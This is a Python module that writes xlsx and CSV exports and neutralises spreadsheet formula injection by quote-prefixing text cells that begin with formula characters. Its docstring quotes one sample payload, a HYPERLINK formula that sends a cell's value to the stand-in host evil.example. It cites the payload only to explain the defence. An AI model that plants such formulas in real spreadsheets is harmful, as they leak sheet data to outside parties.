"""Every spreadsheet Coso writes (xlsx and csv) goes through here, so that text stays text.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel
and LibreOffice as a formula (CSV on opening, xlsx when the cell is edited): a unit named
`=HYPERLINK("http://evil.example/?x="&B2,"…")` would leak the sheet or run a command. In xlsx
such a cell is stored as a string with Excel's "quote prefix" (the text itself is intact); in
CSV the value is prefixed with a single quote, the usual convention that Excel hides on display.
Numbers, dates and empty cells are written as they are; whole numbers get the number format
`#,##0`, so Excel and LibreOffice show them with the thousands separator of the reader's
locale (columns of years or codes are named in `plain`).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

import xlsxwriter
from openpyxl import load_workbook

from coso.core.numbers import XLSX_INTEGER

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INTEGER_FORMAT = XLSX_INTEGER


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_value(value: object) -> object:
    """`value` as it may go into a CSV cell: text that a spreadsheet would run gets a quote."""
    return "'" + value if isinstance(value, str) and looks_like_formula(value) else value


class SheetWriter:
    """A workbook written row by row, every text cell kept as text; `.bytes()` saves it.

    Written with XlsxWriter, read back (imports, tests) with openpyxl: XlsxWriter builds and
    saves the same sheets in about half the time (a province's activity report, 1,600 rows of
    up to 19 cells: 67 ms where openpyxl took 158, most of a 230 ms request). Its cells are
    typed by the call that writes them, so text is always written as text; text that a
    spreadsheet would run also gets the quote prefix."""

    def __init__(self, title: str) -> None:
        self._out = io.BytesIO()
        # No guessing from text: a cell is a formula, a number or a link only if written so.
        options = {"in_memory": True, "strings_to_formulas": False}
        options |= {"strings_to_numbers": False, "strings_to_urls": False}
        options |= {"remove_timezone": True}  # Excel has none: a time is shown as it was given
        self.book = xlsxwriter.Workbook(self._out, options)
        self._grouped = self.book.add_format({"num_format": INTEGER_FORMAT})
        self._quoted = self.book.add_format({"quote_prefix": True})
        self._dated = self.book.add_format({"num_format": "dd/mm/yyyy"})
        self._timed = self.book.add_format({"num_format": "dd/mm/yyyy hh:mm"})
        self.add_sheet(title)

    def add_sheet(self, title: str) -> None:
        self.sheet = self.book.add_worksheet(title)
        self._next = 0
        self._widths: dict[int, int] = {}

    def append(self, row: Sequence[object], plain: Iterable[int] = ()) -> None:
        """One row; whole numbers grouped by thousands except in the columns `plain`."""
        r, sheet, widths, keep = self._next, self.sheet, self._widths, set(plain)
        self._next += 1
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, str):
                sheet.write_string(r, c, value, self._quoted if looks_like_formula(value) else None)
            elif isinstance(value, bool):
                sheet.write_boolean(r, c, value)
            elif isinstance(value, int) and c not in keep:
                sheet.write_number(r, c, value, self._grouped)
            elif isinstance(value, (int, float, Decimal)):
                sheet.write_number(r, c, float(value) if isinstance(value, Decimal) else value)
            elif isinstance(value, dt.datetime):
                sheet.write_datetime(r, c, value, self._timed)
            elif isinstance(value, dt.date):
                sheet.write_datetime(r, c, value, self._dated)
            else:
                sheet.write_string(r, c, str(value))
            # As shown: a date dd/mm/yyyy, a time with hh:mm.
            size = 16 if isinstance(value, dt.datetime) else 10 if isinstance(value, dt.date) else 0
            widths[c] = max(widths.get(c, 0), size or len(str(value)))

    def fit_columns(self, minimum: int = 10, maximum: int = 60) -> None:
        """Size the current sheet's columns to their longest text so far."""
        for c, width in self._widths.items():
            self.sheet.set_column(c, c, min(max(width + 2, minimum), maximum))

    def bytes(self) -> bytes:
        self.book.close()
        return self._out.getvalue()


def xlsx_bytes(header: Sequence[object], rows: Iterable[Sequence[object]], title: str) -> bytes:
    """One sheet: a header row, then `rows`, columns sized to their text."""
    writer = SheetWriter(title)
    writer.append(header)
    for row in rows:
        writer.append(row)
    writer.fit_columns()
    return writer.bytes()


def read_xlsx(data: bytes) -> dict[str, list[list[object]]]:
    """Every sheet's rows, by title (for tests and for checking an export)."""
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    return {
        ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in workbook.worksheets
    }


class CsvWriter:
    """`csv.writer` whose every text cell is made safe with `csv_value`."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **options: Any) -> CsvWriter:
    return CsvWriter(stream, **options)


__all__ = [
    "FORMULA_STARTS",
    "CsvWriter",
    "SheetWriter",
    "csv_value",
    "csv_writer",
    "looks_like_formula",
    "read_xlsx",
    "xlsx_bytes",
]
